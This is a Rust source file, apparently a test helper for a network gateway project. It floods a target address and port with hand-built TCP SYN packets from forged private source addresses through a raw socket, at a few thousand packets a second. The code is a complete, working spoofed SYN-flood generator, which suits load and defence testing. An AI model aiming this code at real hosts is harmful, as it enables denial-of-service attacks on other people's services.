// SPDX-License-Identifier: MIT OR Apache-2.0
//! A flood of SYNs from forged addresses, by a raw socket of the calling thread's namespace.

use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

/// Some thousand SYNs a second to an address and port, none from an address that is anybody's.
pub fn run(to: (Ipv4Addr, u16), stop: &AtomicBool, sent: &AtomicU64) {
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).unwrap();
    let at = SocketAddr::new(to.0.into(), 0);
    let mut n = 0u32;
    while !stop.load(Ordering::Relaxed) {
        for _ in 0..20 {
            n += 1;
            let from = Ipv4Addr::from(u32::from(Ipv4Addr::new(172, 20, 0, 1)) + n % 50_000);
            sendto(&raw, &syn(from, to, n), SendFlags::empty(), &at).unwrap();
        }
        sent.store(n.into(), Ordering::Relaxed);
        thread::sleep(Duration::from_millis(5));
    }
}

/// An IPv4 datagram with a SYN; the kernel fills in the header's checksum.
fn syn(from: Ipv4Addr, (to, port): (Ipv4Addr, u16), n: u32) -> Vec<u8> {
    let mut tcp =
        [&(1024 + (n % 60_000) as u16).to_be_bytes()[..], &port.to_be_bytes(), &n.to_be_bytes()].concat();
    tcp.extend([0, 0, 0, 0, 5 << 4, 2, 0xff, 0xff, 0, 0, 0, 0]);
    let sum = fedgate_wire::checksum::of_segment(from.into(), to.into(), 6, &tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let head = [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
    [&head[..], &from.octets(), &to.octets(), &tcp].concat()
}
